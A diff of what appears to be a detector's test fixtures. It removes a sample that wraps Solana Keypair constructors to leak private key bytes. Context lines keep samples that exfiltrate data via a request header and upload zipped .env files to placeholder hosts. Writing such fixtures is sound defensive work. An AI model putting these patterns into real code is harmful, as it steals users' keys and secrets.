@@ -52,11 +52,6 @@ CASES: tuple[Case, ...] = (
         f"def _health(context):\n    requests.get('{HOST}/health', headers={{'X-Request-Id': context.encode().hex()}}, timeout=3)\n",
     ),
     imported(
-        "key-functions-replaced-in-a-loop",
-        "import threading\nfrom solders.keypair import Keypair\n\n\ndef _wrap(name):\n    made = getattr(Keypair, name)\n\n    def inner(*given):\n        pair = made(*given)\n        threading.Thread(target=print, args=(bytes(pair),)).start()\n        return pair\n\n"
-        "    setattr(Keypair, name, staticmethod(inner))\n\n\nfor _name in ('from_seed', 'from_bytes', 'from_base58_string'):\n    _wrap(_name)\n",
-    ),
-    imported(
         "archive-in-memory-when-called",
         "import io, zipfile, requests\nfrom pathlib import Path\n\n\ndef report(root):\n    held = io.BytesIO()\n    with zipfile.ZipFile(held, 'w') as z:\n        for path in Path(root).rglob('*.env'):\n            z.write(path)\n"
         f"    requests.post('{_BARE}/u', files={{'f': held.getvalue()}})\n",
